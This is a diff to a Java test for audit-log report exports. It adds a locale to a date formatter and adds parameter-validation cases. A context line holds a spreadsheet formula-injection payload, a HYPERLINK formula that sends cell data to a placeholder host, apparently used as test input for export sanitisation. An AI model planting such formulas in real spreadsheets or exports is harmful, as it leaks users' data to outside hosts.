@@ -10,6 +10,7 @@ import java.time.ZoneOffset;
 import java.time.format.DateTimeFormatter;
 import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Locale;
 import java.util.Map;
 import java.util.stream.StreamSupport;
 import java.util.zip.GZIPInputStream;
@@ -28,7 +29,7 @@ import tools.jackson.databind.json.JsonMapper;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class HistoryReportsTest {
 
-    private static final DateTimeFormatter FORM = DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss");
+    private static final DateTimeFormatter FORM = DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss", Locale.ROOT);
     private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1, \"click\")";
     private static final List<String> COLUMNS = List.of(
             "audit_log_id",
@@ -268,6 +269,8 @@ class HistoryReportsTest {
             GetAuditLogAsync      | timezone          | Middle/Earth        | 496
             GetAuditLogAsync      | audit_log_id      | one                 | 496
             GetAuditLogAsync      | with_header       | perhaps             | 496
+            GetAuditLogAsync      | with_bom          | perhaps             | 496
+            GetAuditLogAsync      | decimal_separator | ;                   | 496
             GetAuditLogAsync      | output            | xls                 | 105
             GetAuditLogAsync      | output            | CSV                 | 105
             GetAuditLogAsync      | count             | 100001              | 497
